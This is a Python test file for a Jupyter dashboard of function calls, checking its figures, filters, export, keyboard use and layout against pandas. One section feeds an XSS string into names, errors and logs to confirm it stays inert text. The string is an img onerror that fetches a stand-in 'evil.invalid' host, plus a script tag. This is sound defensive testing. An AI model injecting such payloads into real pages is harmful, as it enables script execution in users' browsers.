"""The dashboard in a real browser, in JupyterLab and Voila: what it shows is compared with pandas."""

from __future__ import annotations

import re
from pathlib import Path
from typing import TYPE_CHECKING

import pandas as pd
import pytest
from chromium import TIMEOUT_MS, low_contrast, record, screenshot
from dashboard import TABS, Dashboard
from factories import call_record
from notebook_servers import Server, Subshells, Theme, run_notebook, set_theme
from playwright.sync_api import expect

import callframe as cf
from callframe.sample.project_data import ProjectData
from callframe.sample.server import Service

if TYPE_CHECKING:
    from collections.abc import Iterator

    from playwright.sync_api import Browser

    from callframe.project import Project

QUICKSTART = Path(__file__).parents[1] / "notebooks" / "01_quickstart.ipynb"
KEPT = "kept.parquet"
WIDTHS: dict[Theme, tuple[int, ...]] = {"light": (720, 1000), "dark": (1600,)}  # 720 is 1440 at 200 %


@pytest.fixture(scope="module", params=["lab", "voila"])
def server(request: pytest.FixtureRequest, chromium: Browser) -> Server:
    assert chromium.is_connected()  # no browser, no server
    started: Server = request.getfixturevalue(request.param)
    return started


@pytest.fixture(scope="module")
def service() -> Iterator[Service]:
    with Service(ProjectData.generate(calls=20_000, functions=12)) as service:
        yield service


@pytest.fixture(scope="module")
def project(service: Service) -> Iterator[Project]:
    with cf.connect(base_url=service.url, project=service.project, token=service.token) as project:
        yield project


def cells_of(service: Service) -> list[str]:
    access = f"base_url={service.url!r}, project={service.project!r}, token={service.token!r}"
    return [
        f"import callframe as cf\nexplorer = cf.explore(cf.connect({access}), start='30d')",
        f"cf.write_parquet(explorer.calls, {KEPT!r})",
        "explorer",
    ]


@pytest.fixture(scope="module")
def opened(server: Server, service: Service, chromium: Browser) -> Iterator[Dashboard]:
    """Open a notebook that explores a project and keeps the calls for the test."""
    name = server.add("explore.ipynb", *cells_of(service))
    with chromium.new_page(viewport={"width": 1200, "height": 1400}) as page:
        log = record(page)
        run_notebook(page, server, name)
        page.locator(".callframe-explore .callframe-picture img").first.wait_for(timeout=TIMEOUT_MS)
        yield Dashboard(page, log, cf.read_parquet(server.notebooks / KEPT))


@pytest.fixture
def board(opened: Dashboard) -> Iterator[Dashboard]:
    """Reset the dashboard, and check after the test that the page reported no errors."""
    opened.reset()
    yield opened
    opened.log.check()


# Compared with pandas


def test_quickstart_runs_and_ends_in_a_dashboard(server: Server, chromium: Browser) -> None:
    ends = "cf.explore(" in QUICKSTART.read_text(encoding="utf-8")
    kept = f"cf.write_parquet(calls, {KEPT!r})"
    name = server.copy(QUICKSTART, *([kept] if ends else [kept, "cf.explore(calls)"]))
    with chromium.new_page(viewport={"width": 1200, "height": 1400}) as page:
        log = record(page)
        run_notebook(page, server, name)
        plot = page.locator(".callframe-explore .callframe-picture img").first
        plot.wait_for(state="attached", timeout=TIMEOUT_MS)
        page.evaluate("document.querySelector('.jp-WindowedPanel-outer')?.scrollTo(0, 1e6)")  # older Labs hide the rest
        plot.wait_for(timeout=TIMEOUT_MS)
        board = Dashboard(page, log, cf.read_parquet(server.notebooks / KEPT))
        board.shows(len(board.calls))
        board.root.scroll_into_view_if_needed()
        screenshot(page, f"quickstart-{server.kind}")
        log.check()


def test_key_figures_are_those_of_pandas(board: Dashboard) -> None:
    finished = board.calls[board.calls["status"] != "Running"]
    rate = finished["status"].isin(["Failed", "Timeout"]).mean()
    expect(board.key_figure("Failure rate")).to_have_text(f"{rate:.1%}")
    expect(board.key_figure("Coverage")).to_have_text("complete")


def test_choosing_a_function_changes_plot_and_key_figures(board: Dashboard) -> None:
    name = board.calls["function"].value_counts().index[1]
    with board.new_plot():
        board.panel.get_by_role("button", name=name, exact=True).click()
    board.shows((board.calls["function"] == name).sum())
    expect(board.plot).to_have_attribute("alt", re.compile("of 1 function"))


def test_choosing_statuses_changes_plot_and_key_figures(board: Dashboard) -> None:
    with board.new_plot():
        board.status("Failed").click()
        board.status("Timeout").click()
    board.shows(board.calls["status"].isin(["Failed", "Timeout"]).sum())
    expect(board.status("Failed")).to_have_attribute("aria-pressed", "true")


def test_choosing_a_quick_range_changes_plot_and_key_figures(board: Dashboard) -> None:
    start = pd.Timestamp(board.calls.attrs["callframe"]["fetched_at"]) - pd.Timedelta(days=7)
    with board.new_plot():
        board.range("7 d").click()
    board.shows((board.calls["start_time"] >= start).sum())


def test_choosing_under_more_changes_plot_and_key_figures(board: Dashboard) -> None:
    first = board.calls["start_time"].min().normalize() + pd.Timedelta(days=3)
    within = board.calls["start_time"].between(first, first + pd.Timedelta(days=1), inclusive="left")
    name = board.calls["function"].value_counts().index[0]
    board.button("More").click()
    with board.new_plot():
        board.field("From").fill(f"{first:%Y-%m-%dT%H:%M}")
        board.field("To").fill(f"{first + pd.Timedelta(days=1):%Y-%m-%dT%H:%M}")
    board.shows(within.sum())
    board.field("Functions").select_option(value=option(board, name))
    board.shows((within & (board.calls["function"] == name)).sum())
    board.field("To").fill(f"{first - pd.Timedelta(days=1):%Y-%m-%dT%H:%M}")
    expect(board.root.get_by_role("alert").filter(has_text="To must be after From")).to_be_visible(timeout=TIMEOUT_MS)
    board.button("More").click()


def option(board: Dashboard, name: str) -> str:
    """Find the option of a function, whose label continues with its calls."""
    found: str = (
        board.field("Functions")
        .locator("option")
        .evaluate_all(
            "(all, start) => all.find(one => one.innerText.replaceAll('\\u00a0', ' ').startsWith(start)).value",
            f"{name} ·",
        )
    )
    return found


@pytest.mark.parametrize("tab", TABS)
def test_every_tab_shows_its_content(board: Dashboard, tab: str) -> None:
    board.open(tab)
    expect(board.panel.locator("img, table, p").first).to_be_visible(timeout=TIMEOUT_MS)
    expect(board.root.locator(".callframe-message .bad")).to_have_count(0)


def test_table_of_functions_counts_as_pandas_does(board: Dashboard) -> None:
    counts = board.calls["function"].value_counts()
    rows = board.panel.locator("tbody tr")
    first = cf.summarize(board.calls)["calls"].iloc[0]
    expect(rows.first.locator("td").first).to_have_text(f"{first:,}", timeout=TIMEOUT_MS)
    shown = {row.locator("th").inner_text(): row.locator("td").first.inner_text() for row in rows.all()}
    assert shown == {name: f"{count:,}" for name, count in counts.items() if count}


def test_longest_calls_are_those_of_pandas(board: Dashboard) -> None:
    board.open("Durations")
    ids = board.panel.locator("tbody td.ids")
    expect(ids).to_have_count(12, timeout=TIMEOUT_MS)
    durations = board.calls.set_index("call_id")["duration"]
    shown = durations.loc[[int(one) for one in ids.all_inner_texts()]]
    assert shown.to_list() == durations.nlargest(12).to_list()


def test_another_plot_can_be_chosen(board: Dashboard) -> None:
    with board.new_plot():
        board.root.get_by_role("radio", name="By hour of the week").click()
    expect(board.plot).to_have_attribute("alt", re.compile("By hour of the week"))


def test_many_quick_changes_end_in_the_last_one(board: Dashboard) -> None:
    for name in ["Completed", "Failed", "Timeout", "Running"] * 5:
        board.status(name).click()
    board.status("Failed").click()
    board.shows((board.calls["status"] != "Failed").sum())


# Failures


def test_failure_groups_are_those_of_the_analysis(board: Dashboard) -> None:
    board.open("Failures")
    counts = board.panel.locator(".card .count b")
    groups = cf.failures(board.calls)
    expect(counts).to_have_count(len(groups), timeout=TIMEOUT_MS)
    assert [int(one.replace(",", "")) for one in counts.all_inner_texts()] == groups["count"].to_list()


def test_failure_group_is_chosen(board: Dashboard) -> None:
    board.open("Failures")
    board.panel.locator(".card .count").nth(1).click()
    board.shows(cf.failures(board.calls)["count"].iloc[1])


def test_trace_and_log_of_a_failure_can_be_read(board: Dashboard, project: Project) -> None:
    board.open("Failures")
    group = cf.failures(board.calls).iloc[1]
    board.panel.locator(".card .link").nth(1).click()
    expect(board.drawer.get_by_role("heading", name="Log")).to_be_visible(timeout=TIMEOUT_MS)
    call = board.calls[board.calls["call_id"] == group["call_id"]].iloc[0]
    texts = board.drawer.locator("pre")
    assert texts.first.inner_text().strip() == call["error_trace"].strip()
    lines = project.logs(call["function_id"], call["call_id"])["message"]
    expect(texts.nth(1)).to_contain_text(lines.iloc[0].strip(), timeout=TIMEOUT_MS)
    assert [line for line in lines if line.strip() not in texts.nth(1).inner_text()] == []
    board.page.keyboard.press("Escape")
    expect(board.drawer).to_have_count(0, timeout=TIMEOUT_MS)


# Single calls


def test_table_of_calls_can_be_sorted_and_opens_calls(board: Dashboard) -> None:
    board.open("Calls")
    board.button("duration").click(timeout=TIMEOUT_MS)
    longest = board.calls.sort_values("duration", ascending=False, kind="stable")["call_id"].iloc[0]
    first = board.panel.locator("td.ids button").first
    expect(first).to_have_text(str(longest), timeout=TIMEOUT_MS)
    first.click()
    expect(board.drawer).to_contain_text(f"Call {longest}", timeout=TIMEOUT_MS)


def test_search_goes_through_all_calls(board: Dashboard) -> None:
    board.open("Calls")
    number = board.calls["call_id"].iloc[0]
    board.field("Search all").fill(str(number))
    board.page.keyboard.press("Enter")
    expect(board.panel.get_by_text("1 call", exact=True)).to_be_visible(timeout=TIMEOUT_MS)
    expect(board.panel.locator("td.ids button")).to_have_text([str(number)], timeout=TIMEOUT_MS)
    board.field("Search all").fill("")
    board.page.keyboard.press("Enter")


# Export


@pytest.mark.parametrize(("button", "read"), [("CSV", cf.read_csv), ("Parquet", cf.read_parquet)])
def test_export_and_its_link_hold_the_selected_calls(
    board: Dashboard, server: Server, tmp_path: Path, button: str, read: type
) -> None:
    board.status("Failed").click()
    selected = board.calls[board.calls["status"] == "Failed"].reset_index(drop=True)
    board.shows(len(selected))
    board.button(button).click()
    with board.page.expect_download(timeout=TIMEOUT_MS) as download:
        board.root.locator(".callframe-message a[download]").click(timeout=TIMEOUT_MS)
    file = tmp_path / download.value.suggested_filename
    download.value.save_as(file)
    assert file.read_bytes() == (server.notebooks / file.name).read_bytes()
    compared = [name for name in selected if name != "error_trace"]  # which CSV leaves out
    pd.testing.assert_frame_equal(read(file)[compared], selected[compared], check_categorical=False)


def test_code_can_be_copied(board: Dashboard) -> None:
    board.status("Failed").click()
    board.shows((board.calls["status"] == "Failed").sum())
    board.button("Code").click()
    expect(board.root.locator(".callframe-code textarea")).to_have_value(
        re.compile(r"calls\[\"status\"\]\.isin\(\['Failed'\]\)"), timeout=TIMEOUT_MS
    )


# By keyboard alone


def focused(board: Dashboard) -> str:
    """Find what has the focus: its label or text, or where it is."""
    found: str = board.page.evaluate(
        """(() => {
            const now = document.activeElement;
            if (now.closest('.callframe-picture')) return 'plot';
            return (now.labels?.[0] ?? now).innerText || now.title;
        })()"""
    )
    return found.strip().splitlines()[0].strip() if found.strip() else ""


def tab_until(board: Dashboard, words: str) -> list[str]:
    """Press Tab until something has the focus, and list what had it on the way."""
    passed: list[str] = []
    for _ in range(40):
        if (now := focused(board)).startswith(words):
            return passed
        passed.append(now)
        board.page.keyboard.press("Tab")
    raise AssertionError(f"Tab does not lead to {words!r}; it leads to {passed}.")


def test_everything_above_the_plot_takes_at_most_ten_stops(board: Dashboard) -> None:
    board.range("All").focus()
    passed = tab_until(board, "Runs")
    assert [name for name in ("All", "Function", "Refresh", "Overview") if name not in passed] == [], passed
    assert len(passed) + 1 <= 10, passed


def test_functions_are_found_and_chosen_by_keyboard(board: Dashboard) -> None:
    board.field("Function").focus()
    board.page.keyboard.type("INGEST")
    board.page.keyboard.press("Enter")
    board.shows(board.calls["function"].str.contains("ingest").sum())


def test_status_is_chosen_and_undone_by_keyboard(board: Dashboard) -> None:
    board.status("Running").focus()
    for _ in range(2):
        board.page.keyboard.press("ArrowRight")
    chosen = focused(board).split()[0]
    board.page.keyboard.press("Enter")
    board.shows((board.calls["status"] == chosen).sum())
    assert focused(board).startswith(chosen)
    board.page.keyboard.press("Escape")
    board.shows(len(board.calls))


def test_keys_are_not_commands_of_the_notebook(board: Dashboard) -> None:
    board.status("Running").focus()
    for key in ("m", "x", "ArrowRight", "ArrowRight"):
        board.page.keyboard.press(key)
    assert board.root.is_visible()
    expect(board.status("Running")).not_to_be_focused()


def test_tab_is_opened_by_keyboard(board: Dashboard) -> None:
    board.root.get_by_role("tab", name="Overview").focus()
    board.page.keyboard.press("ArrowRight")
    board.page.keyboard.press("Enter")
    expect(board.panel.get_by_text("The longest calls")).to_be_visible(timeout=TIMEOUT_MS)


# Threads


@pytest.mark.parametrize("mode", ["disabled", "perComm"])
def test_threads_of_callbacks_make_no_difference(
    mode: Subshells, lab: Server, service: Service, chromium: Browser
) -> None:
    lab.add("threads.ipynb", *cells_of(service))
    with chromium.new_page(viewport={"width": 1200, "height": 1400}) as page:
        log = record(page)
        run_notebook(page, lab, "threads.ipynb", subshells=mode)
        page.locator(".callframe-explore .callframe-picture img").first.wait_for(timeout=TIMEOUT_MS)
        board = Dashboard(page, log, cf.read_parquet(lab.notebooks / KEPT))
        for name in ["Completed", "Failed", "Timeout", "Completed"]:
            board.status(name).click()
        board.shows(board.calls["status"].isin(["Failed", "Timeout"]).sum())
        board.open("Concurrency")
        board.plot.wait_for(timeout=TIMEOUT_MS)
        log.check()


# Hostile text

EVIL = "<img src=x onerror=\"fetch('http://evil.invalid/')\"><script>alert(1)</script>'\"</pre> $x$ \x1b[31mred"
LONG = f"{EVIL} {'no end ' * 150_000}"


@pytest.fixture(scope="module")
def hostile() -> Iterator[Service]:
    now = int(pd.Timestamp.now("UTC").timestamp() * 1000)
    functions = [{"id": 1, "name": EVIL, "createdTime": 0}, {"id": 2, "name": "W" * 1_000_000, "createdTime": 0}]
    calls = {
        number: [
            call_record(
                id=10 * number + place, functionId=number, status="Failed", scheduleId=5,
                scheduledTime=now - 70_000, startTime=now - 60_000 * place, endTime=now - 60_000 * place + 900,
                 error={"message": text, "trace": f'Traceback (most recent call last):\n  File "{text}"\n{text}'})
            for place, text in enumerate([EVIL, LONG, "plain"], start=1)
        ]
        for number in (1, 2)
    }  # fmt: skip
    schedules = [{"id": 5, "name": EVIL, "functionId": 1, "cronExpression": "* * * * *", "createdTime": now - 600_000}]
    logs = {(1, 11): [{"timestamp": now, "message": EVIL}, {"timestamp": now, "message": LONG}]}
    with Service(ProjectData.from_records(functions=functions, schedules=schedules, calls=calls, logs=logs)) as service:
        yield service


def test_hostile_text_stays_text(server: Server, hostile: Service, chromium: Browser) -> None:
    server.add("hostile.ipynb", *cells_of(hostile))
    with chromium.new_page(viewport={"width": 1000, "height": 1400}) as page:
        log = record(page)
        run_notebook(page, server, "hostile.ipynb")
        page.locator(".callframe-explore .callframe-picture img").first.wait_for(timeout=TIMEOUT_MS)
        board = Dashboard(page, log, cf.read_parquet(server.notebooks / KEPT))
        for tab in TABS:
            board.open(tab)
            expect(board.panel.locator("img, table, p").first).to_be_visible(timeout=TIMEOUT_MS)
            if tab == "Failures":
                read_everything(board)
            assert board.fits(), tab
            screenshot(page, f"hostile-{server.kind}-{tab}")
            assert board.root.locator("script, img[src='x'], mjx-container, [onerror]").count() == 0
        log.check()


def read_everything(board: Dashboard) -> None:
    """Open the example of every failure group, and read its log."""
    links = board.panel.locator(".card .link")
    links.first.wait_for(timeout=TIMEOUT_MS)
    for place in range(links.count()):
        links.nth(place).click()
        expect(board.drawer.get_by_role("heading", name="Response")).to_be_visible(timeout=TIMEOUT_MS)
        screenshot(board.page, f"hostile-drawer-{place}")
        board.button("Close the call").click()
        expect(board.drawer).to_have_count(0, timeout=TIMEOUT_MS)


# Layout


@pytest.mark.parametrize("functions", [3, 100])
def test_every_tab_fits_and_can_be_read(functions: int, lab: Server, chromium: Browser) -> None:
    lab.add(
        f"looks-{functions}.ipynb",
        f"import callframe as cf\nproject = cf.demo(calls=20_000, functions={functions})",
        "cf.explore(project, start='14d')",
        "cf.style(cf.summarize(project.calls(start='14d', progress=False)))",
    )
    with chromium.new_page(viewport={"width": 1000, "height": 1800}) as page:
        log = record(page)
        run_notebook(page, lab, f"looks-{functions}.ipynb")
        page.locator(".callframe-explore .callframe-picture img").first.wait_for(timeout=TIMEOUT_MS)
        board = Dashboard(page, log, pd.DataFrame())
        assert [flaw for theme in WIDTHS for flaw in flaws_of(board, theme, f"explore-{functions}")] == []
        log.check()


def flaws_of(board: Dashboard, theme: Theme, name: str) -> Iterator[str]:
    """Photograph every tab, narrow and wide, and list its flaws."""
    set_theme(board.page, theme)
    for tab in TABS:
        board.open(tab)
        expect(board.panel.locator("img, table, p").first).to_be_visible(timeout=TIMEOUT_MS)
        for width in WIDTHS[theme]:
            board.page.set_viewport_size({"width": width, "height": 1800})
            screenshot(board.page, f"{name}-{tab}-{width}-{theme}")
            if not board.fits():
                yield f"{tab} at {width} pixels is too wide"
        yield from (f"{tab}, {theme}: {text}" for text in low_contrast(board.page, ".callframe-explore, .dataframe"))


# Traces that a dashboard leaves


def test_hundred_gestures_use_little_memory_and_closed_dashboards_none(voila: Server, chromium: Browser) -> None:
    gestures = """
import gc, psutil, callframe as cf
from ipywidgets.widgets.widget import _instances
calls = cf.demo(calls=20_000).calls(start='14d', progress=False)
explorer = cf.explore(calls)
names = calls['function'].cat.categories
def gesture(k):
    explorer.selection = {'functions': [names[k % len(names)]], 'last': ['24h', None][k % 2]}
def memory():
    gc.collect()
    return psutil.Process().memory_info().rss / 1e6
for k in range(20): gesture(k)
before = memory()
for k in range(100): gesture(k)
growth = memory() - before
explorer.close()
kept = len(_instances)
for _ in range(10): cf.explore(calls).close()
gc.collect()
print('growth', round(growth), 'MB, kept', len(_instances) - kept)
"""
    with chromium.new_page() as page:
        log = record(page)
        run_notebook(page, voila, voila.add("memory.ipynb", gestures))
        shown = page.get_by_text(re.compile("growth")).first
        shown.wait_for(timeout=TIMEOUT_MS)
        growth, kept = (int(one) for one in re.findall(r"-?\d+", shown.inner_text()))
        assert (growth < 20, kept) == (True, 0), shown.inner_text()
        log.check()


def test_notebook_without_a_kernel_shows_the_last_plot(lab: Server, service: Service, chromium: Browser) -> None:
    lab.add("reopened.ipynb", *cells_of(service))
    with chromium.new_page(viewport={"width": 1200, "height": 1400}) as page:
        run_notebook(page, lab, "reopened.ipynb")
        board = Dashboard(page, record(page), pd.DataFrame())
        board.plot.wait_for(timeout=TIMEOUT_MS)
        board.open("Failures")
        expect(board.plot).to_have_attribute("alt", re.compile("Calls that failed"), timeout=TIMEOUT_MS)
        expect(page.locator(".callframe-still")).to_be_hidden()
        still = page.locator(".callframe-still img")
        expect(still).to_have_attribute("alt", re.compile("Calls that failed"), timeout=TIMEOUT_MS)
        page.evaluate("window.jupyterapp.commands.execute('docmanager:save')")
        page.evaluate("window.jupyterapp.shell.currentWidget.sessionContext.shutdown()")
    with chromium.new_page(viewport={"width": 1200, "height": 1400}) as page:
        page.goto(lab.page_url("doc/tree/reopened.ipynb", reset=""), timeout=TIMEOUT_MS)
        still = page.locator(".callframe-still img")
        still.wait_for(timeout=TIMEOUT_MS)
        expect(still).to_have_attribute("alt", re.compile("Calls that failed"))
        screenshot(page, "reopened")


# Refresh


def test_refresh_can_be_stopped_and_keeps_selection_and_calls(lab: Server, chromium: Browser) -> None:
    with Service(ProjectData.generate(calls=20_000, functions=12)) as slow:
        lab.add("stopped.ipynb", *cells_of(slow))
        with chromium.new_page(viewport={"width": 1200, "height": 1400}) as page:
            log = record(page)
            run_notebook(page, lab, "stopped.ipynb")
            board = Dashboard(page, log, pd.DataFrame())
            board.plot.wait_for(timeout=TIMEOUT_MS)
            board.status("Failed").click()
            board.root.get_by_role("button", name="Remove the filter Failed").wait_for(timeout=TIMEOUT_MS)
            count = board.key_figure("Calls").inner_text()
            slow._middleware._latency_s = 3.0
            board.button("Refresh").click()
            board.button("Stop").click(timeout=TIMEOUT_MS)
            stopped = board.root.get_by_text("Stopped. The calls are those that were read before.")
            stopped.wait_for(timeout=TIMEOUT_MS)
            expect(board.root.locator(".callframe-message .bad")).to_have_count(0)
            assert board.key_figure("Calls").inner_text() == count
            log.check()
